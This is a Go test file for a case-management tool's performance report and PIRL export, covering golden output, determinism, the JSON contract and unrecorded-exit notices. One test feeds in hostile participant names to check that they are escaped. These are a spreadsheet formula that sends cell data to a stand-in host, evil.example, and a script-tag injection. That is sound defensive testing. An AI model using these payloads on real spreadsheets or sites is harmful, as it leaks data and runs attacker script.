package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/caseplan/caseplan/pkg/calendar"
	"github.com/caseplan/caseplan/pkg/casefile"
	"github.com/caseplan/caseplan/pkg/store"
)

// The performance report and the PIRL export are golden-tested on the
// fixture of pkg/performance (../performance/testdata/store), whose
// figures performance_test.go there works out by hand: program year 2025,
// as of 2025-11-15 (day A there, while the year is under way, so every
// kind of row shows: not yet in the cohort, missing and overdue), and the
// PIRL export as of 2026-09-30 (day B). Regenerate with go test
// ./pkg/report -update, and read the diff.
var (
	perfDayA = time.Date(2025, 11, 15, 0, 0, 0, 0, time.UTC)
	perfDayB = time.Date(2026, 9, 30, 0, 0, 0, 0, time.UTC)
)

func perfSnapshot(t *testing.T) *casefile.Snapshot {
	t.Helper()
	src, err := store.NewWorkTree(filepath.Join("..", "performance", "testdata", "store"))
	if err != nil {
		t.Fatal(err)
	}
	snap, _, err := store.Load(src, nil)
	if err != nil {
		t.Fatal(err)
	}
	return snap
}

func perfPeriod(t *testing.T, year, quarter int) calendar.ReportPeriod {
	t.Helper()
	p, err := calendar.NewReportPeriod(year, quarter)
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func TestPerformanceGolden(t *testing.T) {
	snap := perfSnapshot(t)
	r := BuildPerformance(snap, perfPeriod(t, 2025, 0), perfDayA, fixtureSource, false)
	ext := map[string]string{"text": "txt", "md": "md", "html": "html", "csv": "csv", "json": "json"}
	for _, format := range Formats {
		t.Run(format, func(t *testing.T) {
			w, err := NewWriter(format)
			if err != nil {
				t.Fatal(err)
			}
			var b bytes.Buffer
			if err := w.Performance(&b, r); err != nil {
				t.Fatal(err)
			}
			golden(t, filepath.Join("testdata", "golden", "performance."+ext[format]), b.Bytes())
		})
	}
	// The quarterly report names its quarter and counts its own cohorts.
	q := BuildPerformance(snap, perfPeriod(t, 2025, 2), perfDayB, fixtureSource, false)
	var b bytes.Buffer
	if err := (textWriter{}).Performance(&b, q); err != nil {
		t.Fatal(err)
	}
	golden(t, filepath.Join("testdata", "golden", "performance-q2.txt"), b.Bytes())

	e := BuildPIRL(snap, perfPeriod(t, 2025, 0), perfDayB, fixtureSource)
	for _, format := range PIRLFormats {
		t.Run("pirl."+format, func(t *testing.T) {
			var b bytes.Buffer
			if err := WritePIRL(&b, format, e); err != nil {
				t.Fatal(err)
			}
			golden(t, filepath.Join("testdata", "golden", "pirl."+format), b.Bytes())
		})
	}
	if err := WritePIRL(&b, "xlsx", e); err == nil {
		t.Error("WritePIRL(xlsx): no error")
	}
}

// The same records give the same report, byte for byte, however often it
// is made: nothing in it depends on the clock, on map order or on the
// order the cases were read in.
func TestPerformanceIsDeterministic(t *testing.T) {
	render := func(snap *casefile.Snapshot) []byte {
		var b bytes.Buffer
		r := BuildPerformance(snap, perfPeriod(t, 2025, 0), perfDayA, fixtureSource, true)
		for _, format := range Formats {
			w, _ := NewWriter(format)
			if err := w.Performance(&b, r); err != nil {
				t.Fatal(err)
			}
		}
		if err := WritePIRL(&b, "csv", BuildPIRL(snap, perfPeriod(t, 2025, 0), perfDayA, fixtureSource)); err != nil {
			t.Fatal(err)
		}
		return b.Bytes()
	}
	first := render(perfSnapshot(t))
	for range 5 {
		snap := perfSnapshot(t)
		// Reversed: a report must not depend on the order cases come in.
		for i, j := 0, len(snap.Cases)-1; i < j; i, j = i+1, j-1 {
			snap.Cases[i], snap.Cases[j] = snap.Cases[j], snap.Cases[i]
		}
		if !bytes.Equal(render(snap), first) {
			t.Fatal("the same records gave another report")
		}
	}
}

// Every indicator is in the CSV, one that no case is in too: a program
// year before any exit has six rows, each with the result "none".
func TestPerformanceCSVHasEveryIndicator(t *testing.T) {
	r := BuildPerformance(perfSnapshot(t), perfPeriod(t, 2019, 0), perfDayA, fixtureSource, false)
	rows := performanceCSV(t, r)
	var got []string
	for _, row := range rows[1:] {
		got = append(got, row[4]+" "+row[9]+" "+row[10])
	}
	want := []string{"employment_q2 none ", "employment_q4 none ", "median_earnings_q2 none ",
		"credential_attainment none ", "measurable_skill_gains none ", "retention_same_employer none "}
	if strings.Join(got, "|") != strings.Join(want, "|") {
		t.Errorf("indicator rows:\n got %q\nwant %q", got, want)
	}
}

// A participant's name written to attack a spreadsheet or a page does
// neither in the performance report; the PIRL export has no names at all.
func TestPerformanceHostileNames(t *testing.T) {
	snap := perfSnapshot(t)
	snap.Case("E05").Intake.Participant.Name = `=HYPERLINK("https://evil.example/?x="&A1,"open")`
	snap.Case("E08").Intake.Participant.Name = "<script>alert(1)</script> | *bold*"
	r := BuildPerformance(snap, perfPeriod(t, 2025, 0), perfDayA, fixtureSource, true)

	rows := performanceCSV(t, r)
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !number.MatchString(cell) {
				t.Errorf("cell %q can run as a formula", cell)
			}
		}
	}
	var b bytes.Buffer
	if err := (htmlWriter{}).Performance(&b, r); err != nil {
		t.Fatal(err)
	}
	page := b.String()
	if n := strings.Count(page, "<svg "); n != 1 {
		t.Errorf("%d inline SVG charts, want 1", n)
	}
	for _, banned := range []string{"<script", "<link", "<img", "<iframe", "@import"} {
		if strings.Contains(page, banned) {
			t.Errorf("the page contains %s", banned)
		}
	}
	if loc := externalRef.FindStringIndex(page); loc != nil {
		t.Errorf("the page refers to something outside it: %q", page[loc[0]:loc[1]])
	}
	b.Reset()
	if err := (markdownWriter{}).Performance(&b, r); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), `&lt;script&gt;alert(1)&lt;/script&gt; \| \*bold\*`) {
		t.Error("a participant's name is not escaped in the Markdown")
	}
	b.Reset()
	if err := WritePIRL(&b, "csv", BuildPIRL(snap, perfPeriod(t, 2025, 0), perfDayA, fixtureSource)); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(b.String(), "HYPERLINK") || strings.Contains(b.String(), "alert(") {
		t.Error("the PIRL export holds a participant's name")
	}
}

// The JSON contract: the keys caseplan report performance -o json
// documents.
func TestPerformanceJSONContract(t *testing.T) {
	var b bytes.Buffer
	r := BuildPerformance(perfSnapshot(t), perfPeriod(t, 2025, 0), perfDayA, fixtureSource, false)
	if err := (jsonWriter{}).Performance(&b, r); err != nil {
		t.Fatal(err)
	}
	var doc map[string]json.RawMessage
	if err := json.Unmarshal(b.Bytes(), &doc); err != nil {
		t.Fatal(err)
	}
	for _, k := range []string{"report", "program_year", "quarter", "period", "as_of", "organization", "commit", "committed", "participants", "indicators"} {
		if _, ok := doc[k]; !ok {
			t.Errorf("no %q", k)
		}
	}
	var inds []map[string]json.RawMessage
	if err := json.Unmarshal(doc["indicators"], &inds); err != nil {
		t.Fatal(err)
	}
	var keys []string
	for _, ind := range inds {
		var key string
		_ = json.Unmarshal(ind["key"], &key)
		keys = append(keys, key)
		for _, k := range []string{"key", "name", "kind", "source", "cohort", "measured", "numerator", "denominator", "rate", "median", "not_yet", "cases", "missing"} {
			if _, ok := ind[k]; !ok {
				t.Errorf("%s: no %q", key, k)
			}
		}
	}
	// A cohort still running on the report's day says so; one that has
	// ended says null (the fixture's day A is in program year 2025).
	for _, ind := range inds {
		var c struct {
			To    string  `json:"to"`
			SoFar *string `json:"so_far"`
		}
		if err := json.Unmarshal(ind["cohort"], &c); err != nil {
			t.Fatal(err)
		}
		running := c.To > "2025-11-15"
		if running != (c.SoFar != nil) || running && *c.SoFar != "2025-11-15" {
			t.Errorf("cohort to %s: so_far %v, want the day only while it runs", c.To, c.SoFar)
		}
	}
	if got := strings.Join(keys, " "); got != "employment_q2 employment_q4 median_earnings_q2 credential_attainment measurable_skill_gains retention_same_employer" {
		t.Errorf("indicators %s", got)
	}
}

// TestPerformanceCounts: what a result is of reads plainly for none, one
// and many participants, in every format that shows it (text, Markdown
// and HTML share counts).
func TestPerformanceCounts(t *testing.T) {
	for _, tt := range []struct {
		ind  PerformanceIndicator
		want string
	}{
		{PerformanceIndicator{Kind: "median"}, "no earnings to take the median of"},
		{PerformanceIndicator{Kind: "median", Denominator: 1}, "median of 1 participant's earnings"},
		{PerformanceIndicator{Kind: "median", Denominator: 4}, "median of 4 participants' earnings"},
		{PerformanceIndicator{Kind: "rate", Numerator: 2, Denominator: 3}, "2 of 3"},
	} {
		if got := tt.ind.counts(); got != tt.want {
			t.Errorf("counts of %+v = %q, want %q", tt.ind, got, tt.want)
		}
	}
}

// performanceCSV is r written as CSV and read back by encoding/csv.
func performanceCSV(t *testing.T, r *Performance) [][]string {
	t.Helper()
	var b bytes.Buffer
	if err := (csvWriter{}).Performance(&b, r); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// An exit a later service hides, not recorded, is in no figure (the state
// counts the exits recorded, TEGL 10-16); the text, Markdown and HTML
// reports say so under the indicators, naming the case and what records
// it, and say nothing when there is none.
func TestPerformanceSaysUnrecordedExits(t *testing.T) {
	r := BuildPerformance(perfSnapshot(t), perfPeriod(t, 2025, 0), perfDayA, fixtureSource, false)
	const line = "Not recorded: 1 exit(s) in these cohorts (W-9 exited 2024-08-01) are in no figure: a later service hides each, and the state counts only exits recorded (TEGL 10-16, PIRL 901); caseplan due --all --kind unrecorded-exit gives the steps that record each"
	for _, format := range []string{"text", "md", "html"} {
		w, err := NewWriter(format)
		if err != nil {
			t.Fatal(err)
		}
		var b bytes.Buffer
		if err := w.Performance(&b, r); err != nil {
			t.Fatal(err)
		}
		if strings.Contains(b.String(), "Not recorded:") {
			t.Errorf("%s: says exits are not recorded, with none", format)
		}
		with := *r
		with.UnrecordedExits = []PerformanceUnrecorded{{Case: "W-9", Participant: "A. E.", Manager: "mrivera", Exit: "2024-08-01", Returned: "2025-01-10", Known: "2024-10-31"}}
		b.Reset()
		if err := w.Performance(&b, &with); err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(b.String(), line) {
			t.Errorf("%s: no line %q in:\n%s", format, line, b.String())
		}
	}
}
